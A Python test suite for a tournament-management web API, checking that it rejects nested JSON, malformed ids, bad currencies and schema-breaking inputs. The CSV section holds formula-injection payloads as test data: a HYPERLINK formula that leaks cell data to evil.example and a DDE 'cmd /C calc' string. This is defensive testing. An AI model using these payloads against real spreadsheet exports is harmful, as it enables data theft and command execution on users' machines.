"""Hostile input, round two (issue #30): what an outside tester sent that the API took or broke on.

Deeply nested JSON, spreadsheet formulas in the CSV reports, ids that are not whole numbers,
currencies that are not ISO 4217 codes, and answers that disagree with the schema.
"""

import pytest
from django.test import Client

from tdmanager.errors import ValidationFailed
from tests.conftest import tournament_form
from tournaments.models import LedgerRow

pytestmark = pytest.mark.django_db


def refused(r, status=400, code=None):
    assert r.status_code == status, (r.status_code, getattr(r, "content", b"")[:300])
    assert r["Content-Type"].startswith("application/json")
    body = r.json()
    assert set(body) >= {"code", "detail"}, body
    if code:
        assert body["code"] == code, body
    return body


# --- 1. deeply nested JSON ---------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_a_deeply_nested_body_to_the_token_endpoint_is_a_400_not_a_500(depth):
    client = Client(raise_request_exception=False)
    r = client.post("/api/v1/auth/token/", "[" * depth + "]" * depth, content_type="application/json")
    refused(r, 400, "bad_body")  # the issue's body: not even an object
    r = client.post("/api/v1/auth/token/", '{"username": %s}' % ("[" * depth + "]" * depth), content_type="application/json")
    assert "nested" in refused(r, 400, "parse_error")["detail"]


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_a_deeply_nested_body_to_the_cashier_is_a_400_and_sells_nothing(api, cashier_user, tournament, person, depth):
    body = '{"tournament": %d, "person": %d, "method": "CASH", "note": %s}' % (tournament.pk, person.pk, "[" * depth + "]" * depth)
    client = api(cashier_user)
    client.raise_request_exception = False
    r = client.post("/api/v1/cashier/register/", body, content_type="application/json")
    refused(r, 400, "parse_error")
    assert not LedgerRow.objects.exists()


def test_a_body_nested_a_few_levels_is_still_read(api, cashier_user, tournament, person):
    r = api(cashier_user).post(
        "/api/v1/cashier/register/", {"tournament": tournament.pk, "person": person.pk, "method": "CASH", "note": [[[{"a": [1]}]]]}, format="json"
    )
    assert r.status_code == 201, r.content


def test_every_api_view_reads_json_through_the_bounded_parser():
    from django.urls import get_resolver
    from rest_framework.parsers import JSONParser

    from tdmanager.jsonbody import BoundedJSONParser

    seen, stack = 0, [get_resolver()]
    while stack:
        resolver = stack.pop()
        for p in resolver.url_patterns:
            if hasattr(p, "url_patterns"):
                stack.append(p)
                continue
            view = getattr(p.callback, "cls", None)
            if view is None:
                continue
            seen += 1
            json_parsers = [c for c in view.parser_classes if issubclass(c, JSONParser)]
            assert all(issubclass(c, BoundedJSONParser) for c in json_parsers), (p.pattern, view, json_parsers)
    assert seen > 100


def test_a_structure_file_nested_too_deeply_is_refused(api, director):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("deep.json", b"[" * 5000 + b"]" * 5000, content_type="application/json")
    r = api(director).post("/api/v1/structures/import/", {"file": upload}, format="multipart")
    refused(r, 400, "bad_file")


# --- 4. ids are whole numbers ------------------------------------------------------------------------


@pytest.fixture
def two_tournaments(make_tournament, make_person):
    first, second = make_tournament(name="First"), make_tournament(name="Second")
    return first, second, make_person("Anna", "First"), make_person("Bruno", "Second")


@pytest.mark.parametrize(
    "field, bad",
    [("tournament", 1.9), ("tournament", True), ("tournament", "2"), ("tournament", 2.0), ("person", 1.5), ("person", False), ("person", "1"), ("person", [1])],
)
def test_the_cashier_refuses_an_id_that_is_not_a_whole_number_and_names_it(api, cashier_user, two_tournaments, field, bad):
    first, second, anna, bruno = two_tournaments
    body = {"tournament": second.pk, "person": bruno.pk, "method": "CASH", field: bad}
    r = api(cashier_user).post("/api/v1/cashier/register/", body, format="json")
    assert field in refused(r, 400, "invalid")["fields"]
    assert not LedgerRow.objects.exists()  # no sale, in no tournament, to nobody


def test_the_issue_examples_sell_nothing_in_the_other_tournament_or_to_the_other_player(api, cashier_user, two_tournaments):
    first, second, anna, bruno = two_tournaments
    desk = api(cashier_user)
    refused(desk.post("/api/v1/cashier/register/", {"tournament": first.pk + 0.9, "person": bruno.pk, "method": "CASH"}, format="json"))
    refused(desk.post("/api/v1/cashier/register/", {"tournament": second.pk, "person": anna.pk + 0.5, "method": "CASH"}, format="json"))
    assert not first.entries.exists() and not anna.entries.exists()
    assert desk.post("/api/v1/cashier/register/", {"tournament": second.pk, "person": bruno.pk, "method": "CASH"}, format="json").status_code == 201


@pytest.mark.parametrize("fmt", ["multipart", "application/x-www-form-urlencoded"])
def test_the_api_takes_json_not_a_form_whose_values_are_all_text(api, cashier_user, tournament, person, fmt):
    from urllib.parse import urlencode

    body = {"tournament": tournament.pk, "person": person.pk, "method": "CASH"}
    client = api(cashier_user)
    r = (
        client.post("/api/v1/cashier/register/", body, format="multipart")
        if fmt == "multipart"
        else client.post("/api/v1/cashier/register/", urlencode(body), content_type=fmt)
    )
    refused(r, 415, "unsupported_media_type")
    assert not LedgerRow.objects.exists()
    documented = _schema()["paths"]["/api/v1/cashier/register/"]["post"]["requestBody"]["content"]
    assert list(documented) == ["application/json"]


def test_the_token_endpoint_still_takes_a_form(director):
    r = Client().post("/api/v1/auth/token/", {"username": "dora", "password": "pw-dora"})
    assert r.status_code == 200 and r.json()["token"]


def _sweep_cases(t, entry, person):
    """(role, path, the body with a given id, the field named): an endpoint of each kind that takes an id."""
    e, p, tid = entry.pk, person.pk, t.pk
    return [
        ("cashier", "/api/v1/cashier/preregister/", lambda v: {"tournament": tid, "person": v}, "person", p),
        ("cashier", "/api/v1/cashier/reenter/", lambda v: {"tournament": v, "person": p}, "tournament", tid),
        ("cashier", "/api/v1/cashier/rebuy/", lambda v: {"entry": v}, "entry", e),
        ("cashier", "/api/v1/cashier/addon/", lambda v: {"entry": v}, "entry", e),
        ("cashier", "/api/v1/cashier/check-in/", lambda v: {"entry": v}, "entry", e),
        ("cashier", "/api/v1/cashier/no-show/", lambda v: {"entry": v}, "entry", e),
        ("director", "/api/v1/cashier/refund/", lambda v: {"entry": v, "reason": "ill"}, "entry", e),
        ("cashier", "/api/v1/cashier/alternates/", lambda v: {"tournament": tid, "person": v}, "person", p),
        ("director", f"/api/v1/tournaments/{tid}/busts/", lambda v: {"entries": [{"entry": v}]}, "entry", e),
        ("director", f"/api/v1/tournaments/{tid}/floor/penalties/", lambda v: {"entry": v, "kind": "WARNING", "reason_code": "OTHER"}, "entry", e),
        ("director", "/api/v1/payouts/pay/", lambda v: {"entry": v, "source": "MAIN:1", "method": "CASH"}, "entry", e),
        (
            "director",
            "/api/v1/formats/sit-and-go/",
            lambda v: {"name": "S", "buy_in": "30", "fee": "3", "starting_stack": 5000, "structure": v},
            "structure",
            t.structure_id,
        ),
    ]


def test_every_kind_of_endpoint_that_takes_an_id_refuses_a_fraction_a_boolean_and_a_string(api, director, cashier_user, tournament, person, make_person):
    from tournaments.cashier import services as cashier
    from tournaments.eventlog.services import Actor

    entry = cashier.register(tournament, make_person(), method="CASH", actor=Actor(cashier_user, "desk")).entry
    rows = LedgerRow.objects.count()
    users = {"cashier": cashier_user, "director": director}
    for role, path, body, field, good in _sweep_cases(tournament, entry, person):
        for bad in (good + 0.5, True, str(good)):
            r = api(users[role]).post(path, body(bad), format="json")
            assert r.status_code == 400, (path, field, bad, r.status_code, r.content[:200])
            assert field in str(r.json()), (path, field, bad, r.json())
    assert LedgerRow.objects.count() == rows


def test_every_relation_in_the_api_serializers_is_a_whole_number_id():
    from rest_framework import serializers

    import payouts.api  # noqa: F401 - the serializers below are defined on import
    import seating.api  # noqa: F401
    import tournaments.api  # noqa: F401
    import tournaments.formats.api  # noqa: F401
    import tournaments.oversight.api  # noqa: F401
    from tdmanager.fields import IdField

    def every(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from every(sub)

    checked = 0
    for cls in set(every(serializers.Serializer)):
        if cls.__module__.split(".")[0] not in ("tournaments", "payouts", "seating", "tdmanager"):
            continue
        try:
            fields = cls().fields
        except Exception:  # noqa: BLE001 - a serializer that needs its context to build its fields
            continue
        for name, f in fields.items():
            if cls.__module__ != "tdmanager.schema":  # the schema's own answer shapes, never read from a request
                assert not (type(f) is serializers.CharField and not f.read_only), (cls, name, "a text the API takes is a TextField")
            relation = getattr(f, "child_relation", f)
            if isinstance(relation, serializers.RelatedField) and not relation.read_only:
                checked += 1
                assert isinstance(relation, IdField), (cls, name, type(relation))
    assert checked > 20


# --- 3. no formula in a CSV --------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _csv(response) -> list[list[str]]:
    import csv
    import io

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response).decode() if response.streaming else response.content.decode())))


@pytest.fixture
def started(make_tournament, make_person, cashier_actor, actor):
    from tournaments.cashier import services as cashier
    from tournaments.setup import lifecycle

    t = make_tournament()
    for first in ("Anna", "Bruno"):
        cashier.register(t, make_person(first, "Bianchi"), method="CASH", actor=cashier_actor)
    lifecycle.start(t, actor=actor, override_minimum=True, prestart_report_sent=True)
    return t


def test_the_rulings_csv_carries_no_formula_from_what_the_floor_typed(api, started, floor_user, director):
    body = {"asked_by": HYPERLINK, "question": "+1+1", "decision": "@SUM(1+1)", "hand": "-2+3+cmd|' /C calc'!A0", "table_number": 1}
    assert api(floor_user).post(f"/api/v1/tournaments/{started.pk}/rulings/", body, format="json").status_code == 201
    for url in (f"/api/v1/tournaments/{started.pk}/payouts/reports/rulings/?format_type=csv", f"/tournaments/{started.pk}/payouts/reports/rulings.csv"):
        client = Client()
        client.force_login(director)
        rows = _csv(client.get(url) if url.endswith(".csv") else api(director).get(url))
        ruling = next(r for r in rows if len(r) > 6 and r[0].isdigit())
        assert ruling[3:7] == ["'-2+3+cmd|' /C calc'!A0", "'" + HYPERLINK, "'+1+1", "'@SUM(1+1)"], ruling
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for c in row if c), rows


def test_the_prestart_csv_neutralises_player_names_and_documents(api, make_tournament, make_person, cashier_user, director):
    t = make_tournament()
    evil = make_person("=1+2", "@cmd", document_id="\t=SUM(A1)")
    plain = make_person("-Ugo", "Rossi", document_id="-12.50")  # a name with a dash, a document that is a number
    for p in (evil, plain):
        assert api(cashier_user).post("/api/v1/cashier/register/", {"tournament": t.pk, "person": p.pk, "method": "CASH"}, format="json").status_code == 201
    rows = _csv(api(director).get(f"/api/v1/tournaments/{t.pk}/payouts/reports/prestart/?format_type=csv"))
    players = {r[3]: r for r in rows if len(r) > 4 and r[0].isdigit()}
    assert set(players) == {"'" + evil.full_name, "'" + plain.full_name}, players
    assert players["'" + evil.full_name][4] == "•" * 5 + "A1)"  # a document is masked, and so never a formula
    assert players["'" + plain.full_name][4] == "•••.50"
    header = rows[1]
    amounts = [players["'" + evil.full_name][header.index(c)] for c in ("Buy-in", "Fee", "Amount")]
    assert amounts == ["100.00", "10.00", "110.00"]  # the amounts are numbers, as written


@pytest.mark.parametrize(
    "text, written",
    [
        ("=1+1", "'=1+1"),
        ("+39 333", "'+39 333"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.50", "-12.50"),
        ("-3", "-3"),
        ("12", "12"),
        ("Anna", "Anna"),
        ("", ""),
        (None, ""),
        ("-", "'-"),
        ("-1.", "'-1."),
    ],
)
def test_a_csv_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(text, written):
    from tdmanager.csvsafe import cell

    assert cell(text) == written


# --- 5. currencies -----------------------------------------------------------------------------------


@pytest.mark.parametrize("code", ["XXX", "ZZZ", "eur", "EURO", "", "US$"])
def test_a_tournament_currency_that_is_not_one_accepted_here_is_refused(api, director, make_tournament, code):
    t = make_tournament(status="PLANNED")
    body = refused(api(director).patch(f"/api/v1/tournaments/{t.pk}/", {"currency": code}, format="json"), 400)
    assert "currency" in body["fields"], body
    t.refresh_from_db()
    assert t.currency == "EUR"


def test_a_currency_the_installation_lists_is_taken_while_nothing_is_sold(api, director, make_tournament, settings):
    settings.TDM_CURRENCIES = ["CHF"]
    t = make_tournament(status="PLANNED")
    r = api(director).patch(f"/api/v1/tournaments/{t.pk}/", {"currency": "CHF"}, format="json")
    assert r.status_code == 200 and r.json()["currency"] == "CHF"
    settings.TDM_CURRENCIES = ["GBP"]  # the list changed since: what the tournament has stays, other fields still save
    assert api(director).patch(f"/api/v1/tournaments/{t.pk}/", {"name": "Renamed", "currency": "CHF"}, format="json").status_code == 200


def test_a_new_tournament_in_an_unknown_currency_is_refused(api, director, structure):
    base = {"name": "T", "start_at": "2026-07-09T19:00:00Z", "buy_in": "100", "fee": "10", "starting_stack": 30000, "structure": structure.pk}
    body = refused(api(director).post("/api/v1/tournaments/", {**base, "currency": "XXX"}, format="json"), 400)
    assert "currency" in body["fields"]


def test_a_tournament_with_sales_keeps_its_currency(api, director, cashier_user, tournament, person, settings):
    settings.TDM_CURRENCIES = ["CHF"]
    assert api(cashier_user).post("/api/v1/cashier/register/", {"tournament": tournament.pk, "person": person.pk}, format="json").status_code == 201
    body = refused(
        api(director).patch(f"/api/v1/tournaments/{tournament.pk}/", {"currency": "CHF", "override_reason": "x"}, format="json"), 409, "currency_locked"
    )
    assert body["fields"] == ["currency"]
    tournament.refresh_from_db()
    assert tournament.currency == "EUR" and LedgerRow.objects.get().currency == "EUR"


def test_the_tournament_page_refuses_an_unknown_currency_too(director, make_tournament):
    t = make_tournament(status="PLANNED")
    c = Client()
    c.force_login(director)
    form = tournament_form(t.structure_id, t.name)
    assert c.post(f"/tournaments/{t.pk}/edit/", form).status_code == 302  # the form as it is saves
    r = c.post(f"/tournaments/{t.pk}/edit/", {**form, "currency": "XXX"})
    assert r.status_code == 200 and "ISO 4217" in r.content.decode()
    t.refresh_from_db()
    assert t.currency == "EUR"


@pytest.mark.parametrize("base", ["ZZZ", "XXX", "usd!", "GBP"])
def test_an_exchange_rate_into_a_currency_not_accepted_here_is_refused(api, director, base):
    from tournaments.models import ExchangeRate

    r = api(director).post("/api/v1/cashier/exchange-rates/", {"currency": "USD", "rate": "1.1", "base_currency": base}, format="json")
    refused(r, 400)
    assert not ExchangeRate.objects.exists()


def test_a_listed_currency_that_is_not_iso_4217_stops_the_start(settings):
    from django.core import checks

    settings.TDM_CURRENCIES = ["CHF", "XXX"]
    errors = [e for e in checks.run_checks() if e.id == "tdmanager.E002"]
    assert len(errors) == 1 and "'XXX'" in errors[0].msg


# --- 6. the answers are what the schema says ---------------------------------------------------------


def _schema():
    from tests.fuzz import openapi_schema

    return openapi_schema()


def test_removing_a_seat_given_by_hand_answers_what_the_schema_documents(api, director, started):
    from seating.models import SeatReservation

    entry = started.entries.first()
    r = api(director).post(
        f"/api/v1/tournaments/{started.pk}/seating/reservations/", {"entry": entry.pk, "table": 1, "seat": 9, "reason": "wheelchair"}, format="json"
    )
    assert r.status_code == 201, r.content
    path = "/api/v1/tournaments/{id}/seating/reservations/{res_id}/"
    documented = {int(code) for code in _schema()["paths"][path]["delete"]["responses"] if code.startswith("2")}
    r = api(director).delete(f"/api/v1/tournaments/{started.pk}/seating/reservations/{r.json()['id']}/")
    assert r.status_code in documented and r.status_code == 204 and not r.content
    assert not SeatReservation.objects.exists()


def test_a_template_whose_source_is_gone_says_null_and_the_schema_allows_it(api, director, make_tournament):
    t = make_tournament(name="Source", status="PLANNED")
    r = api(director).post(f"/api/v1/tournaments/{t.pk}/save-template/", {"name": "From source"}, format="json")
    assert r.status_code == 201, r.content
    assert api(director).delete(f"/api/v1/tournaments/{t.pk}/").status_code == 204  # never sold anything
    listed = api(director).get("/api/v1/tournament-templates/").json()
    rows = listed["results"] if isinstance(listed, dict) else listed
    assert [x["source_name"] for x in rows if x["name"] == "From source"] == [None]
    props = _schema()["components"]["schemas"]["TournamentTemplate"]["properties"]
    assert props["source_name"].get("nullable") is True and props["structure_name"].get("nullable") is True


@pytest.mark.parametrize("query", ["offset=null", "limit=true", "limit=1.5", "offset=-1", "limit=0", "limit=", "offset=abc"])
def test_a_page_asked_with_a_count_that_is_not_a_whole_number_is_a_400(api, director, tournament, query):
    body = refused(api(director).get(f"/api/v1/tournaments/?{query}"), 400, "bad_parameter")
    assert query.split("=")[0] in body["fields"]


def test_a_page_asked_properly_still_pages(api, director, make_tournament):
    for i in range(3):
        make_tournament(name=f"T{i}")
    r = api(director).get("/api/v1/tournaments/?limit=2&offset=1")
    assert r.status_code == 200 and len(r.json()["results"]) == 2 and r.json()["count"] == 3
    assert len(api(director).get("/api/v1/tournaments/?limit=100000").json()["results"]) == 3  # above the ceiling: the ceiling


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/payouts/due/?all=yes",
        "/api/v1/payouts/due/?all=",
        "/api/v1/structures/{s}/export/?format_type=xml",
        "/api/v1/tournaments/{t}/payouts/reports/rulings/?format_type=html",
    ],
)
def test_a_value_outside_the_schemas_enum_is_a_400(api, director, tournament, structure, url):
    refused(api(director).get(url.format(s=structure.pk, t=tournament.pk)), 400, "bad_parameter")


@pytest.mark.parametrize("body", ["[null, null]", "true", "null", "3", '"x"', "[]"])
def test_a_body_that_is_not_an_object_is_a_400_even_where_the_body_is_not_read(api, director, started, body):
    for path in (
        f"/api/v1/tournaments/{started.pk}/payouts/table/propose/",
        f"/api/v1/tournaments/{started.pk}/payouts/table/lock/",
        "/api/v1/cashier/register/",
    ):
        refused(api(director).post(path, body, content_type="application/json"), 400, "bad_body")
    assert not started.events.filter(action__startswith="payouts.").exists()


def test_every_csv_the_product_writes_goes_through_the_shared_writer():
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    writers = [
        str(p.relative_to(root))
        for app in ("tdmanager", "tournaments", "payouts", "seating")
        for p in (root / app).rglob("*.py")
        if ("csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()) and p.name != "csvsafe.py"
    ]
    assert writers == [], "write CSV with tdmanager.csvsafe.Writer (formulas neutralised): " + ", ".join(writers)


def test_what_a_longer_fuzz_found_is_refused_too(api, director, cashier_user, tournament):
    from tournaments.models import DisplayScreen

    screen = DisplayScreen.objects.create(name="TV", tournament=tournament, token="tv-token")
    body = refused(api(director).patch(f"/api/v1/screens/{screen.pk}/", {"tournament": "", "announcement": ""}, format="json"), 400)
    assert "tournament" in body["fields"]
    screen.refresh_from_db()
    assert screen.tournament_id == tournament.pk  # not unlinked by an empty string
    assert api(director).patch(f"/api/v1/screens/{screen.pk}/", {"tournament": None}, format="json").status_code == 200  # null is
    refused(api(cashier_user).get("/api/v1/cashier/sales/?tournament="), 400, "bad_parameter")
    refused(api(director).get(f"/api/v1/tournaments/{tournament.pk}/entries/?status=NOPE"), 400, "bad_parameter")
    assert api(director).get(f"/api/v1/tournaments/{tournament.pk}/entries/?status=ACTIVE").status_code == 200


def test_an_action_that_takes_no_body_offers_none_in_the_schema():
    paths = _schema()["paths"]
    for path in ("/api/v1/tournaments/{id}/finish/", "/api/v1/tournaments/{id}/open-registration/"):
        assert "requestBody" not in paths[path]["post"], path  # it offered a whole tournament, then read nothing of it


def test_a_text_is_a_json_string_and_its_length_counts_as_sent(api, director, person):
    from tournaments.models import ChipSet

    body = refused(api(director).post("/api/v1/chipsets/", {"name": -40189, "denominations": []}, format="json"), 400, "invalid")
    assert "name" in body["fields"] and not ChipSet.objects.exists()
    r = api(director).post(f"/api/v1/people/{person.pk}/ban/", {"banned": True, "reason": "\x1d" + "x" * 200}, format="json")
    assert "reason" in refused(r, 400, "invalid")["fields"]  # 201 characters sent; DRF counted 200 after trimming
    person.refresh_from_db()
    assert not person.banned
    assert api(director).post(f"/api/v1/people/{person.pk}/ban/", {"banned": True, "reason": " cheating "}, format="json").status_code == 200
    person.refresh_from_db()
    assert person.banned and person.banned_reason == "cheating"


# --- issue #40: what the route probe found (benchmarks/probe_routes.py) -------------------------------

DIGITS = "9" * 10_000  # more than int() reads (4,300 digits) and than any column holds


def _page_client(user):
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def test_the_tournament_form_posted_empty_is_shown_again_with_its_errors(director, tournament):
    client = _page_client(director)
    for path in ("/tournaments/new/", f"/tournaments/{tournament.pk}/edit/"):
        r = client.post(path)  # an empty form was unbound, then read as if it had been checked: a 500
        assert r.status_code == 200 and "This field is required." in r.content.decode(), path


def test_a_version_or_a_screen_of_ten_thousand_digits_is_no_such_object(director, tournament):
    from tournaments.models import DisplayScreen

    screen = DisplayScreen.objects.create(name="TV", tournament=tournament, token="tv-probe")
    client = _page_client(director)
    r = client.post(f"/tournaments/{tournament.pk}/", {"op": "reason-public", "version": DIGITS})
    assert r.status_code == 302  # back to the page, which says no such version
    assert client.post("/displays/", {"op": "revoke", "screen": DIGITS}).status_code == 404
    screen.refresh_from_db()
    assert screen.token_revoked_at is None


def test_settling_a_tie_of_a_cycle_the_series_never_closed_is_a_404(api, director):
    from tournaments.eventlog.services import Actor
    from tournaments.formats.services import series

    s = series.create_series(name="League", actor=Actor(director, "test"))
    r = api(director).post(f"/api/v1/formats/series/{s.pk}/settle/", {"cycle": 1, "people": [], "reason": "a draw"}, format="json")
    refused(r, 404, "no_such_cycle")


def test_the_chip_counts_of_a_timed_event_refuse_a_number_no_column_holds(director, structure):
    from datetime import timedelta
    from decimal import Decimal

    from django.utils import timezone

    from tournaments.eventlog.services import Actor
    from tournaments.formats.services import timed

    t = timed.create_timed_event(
        name="Timed", start_at=timezone.now() + timedelta(hours=1), buy_in=Decimal("20"), fee=Decimal("5"), starting_stack=5000,
        structure=structure, actor=Actor(director, "test"), minutes=60,
    )  # fmt: skip
    client = _page_client(director)
    for counts in (f"{DIGITS} 100", f"1 {DIGITS}"):
        r = client.post(f"/formats/timed/{t.pk}/", {"op": "finish", "counts": counts})
        assert r.status_code == 302, counts  # the page again, with "one player per line"


def test_an_addendum_report_of_ten_thousand_digits_is_no_such_report(api, director, tournament):
    assert _page_client(director).get(f"/tournaments/{tournament.pk}/payouts/reports/addendum-{DIGITS}.csv").status_code == 404
    refused(api(director).get(f"/api/v1/tournaments/{tournament.pk}/payouts/reports/addendum-{DIGITS}/"), 404)


HUGE = "9" * 40  # a whole number no column holds (SQLite cannot even compare one with a column)


def test_a_bust_with_a_stack_no_column_holds_is_refused(director, started, actor):
    from seating.models import Bust
    from seating.services import record_bust

    entry = started.entries.order_by("number").first()
    with pytest.raises(ValidationFailed) as refusal:
        record_bust(started, [{"entry": entry.pk, "starting_stack": HUGE}], actor=actor)
    assert refusal.value.code == "bad_stack"
    r = _page_client(director).post(f"/tournaments/{started.pk}/tables/", {"op": "bust", "only": entry.pk, f"stack_{entry.pk}": HUGE})
    assert r.status_code == 302  # the table map reads a stack it cannot read as none, as it reads "abc"
    assert Bust.objects.filter(entry=entry).exists()


def test_the_page_ids_no_column_holds_are_no_ids(director, started):
    client = _page_client(director)
    assert client.get(f"/tournaments/{started.pk}/tables/slips/?ids={HUGE}").status_code == 200  # every open slip, as for ?ids=abc
    r = client.post("/formats/qualifiers/new/", {"name": "Qualifiers", "final": started.pk, "qualifiers": [HUGE]})
    assert r.status_code == 200 and "is not a valid value" in r.content.decode()


def test_a_regulator_asking_for_a_tournament_no_column_holds_gets_a_404(db, make_tournament, director):
    from tests.conftest import make_user
    from tournaments.eventlog.services import Actor
    from tournaments.oversight import services as oversight

    client = _page_client(make_user("corpo", "regulator"))
    oversight.set_regulator_access(make_tournament(), "corpo", granted=True, actor=Actor(director))
    for path in ("/tournaments/{}/", "/tournaments/{}/rulings/", "/tournaments/{}/payouts/", "/api/v1/tournaments/{}/ledger/"):
        assert client.get(path.format(HUGE)).status_code == 404, path


@pytest.mark.parametrize(
    "path,field",
    [("/formats/headsup/new/", "level_minutes"), ("/formats/timed/new/", "minutes")],
)
def test_the_format_pages_bound_their_minutes_as_the_api_does(director, structure, path, field):
    from tournaments.models import Tournament

    client = _page_client(director)
    form = {"name": "Probe", "buy_in": "20", "fee": "5", "starting_stack": "5000", "structure": structure.pk, "start_at": "2030-01-01T20:00"}
    form.update(
        {"size": "16", "punctuality": "NO_SHOW", "paid_players": "8", "level_minutes": "10"}
        if field == "level_minutes"
        else {"minutes": "120", "end_condition": "TIME_LIMIT_CHIPCOUNT", "chip_tie": "SHARE"}
    )
    assert client.post(path, form).status_code == 302  # the form as filled is taken
    form.update({"name": "Probe too", field: "9" * 40})
    r = client.post(path, form)
    assert r.status_code == 200 and "less than or equal to" in r.content.decode()  # the form again, the field's bound said
    assert not Tournament.objects.filter(name="Probe too").exists()


def test_a_side_pool_named_longer_than_its_column_is_refused_on_the_payouts_page(director, tournament):
    client = _page_client(director)
    r = client.post(f"/tournaments/{tournament.pk}/payouts/", {"op": "sidepool", "kind": "OTHER", "name": "A" * 10_000})
    assert r.status_code == 302  # the page again, with the message (PostgreSQL refused the row: a 500)
    assert not tournament.side_pools.exists()
    assert client.post(f"/tournaments/{tournament.pk}/payouts/", {"op": "sidepool", "kind": "OTHER", "name": "A" * 120}).status_code == 302
    assert tournament.side_pools.get().name == "A" * 120
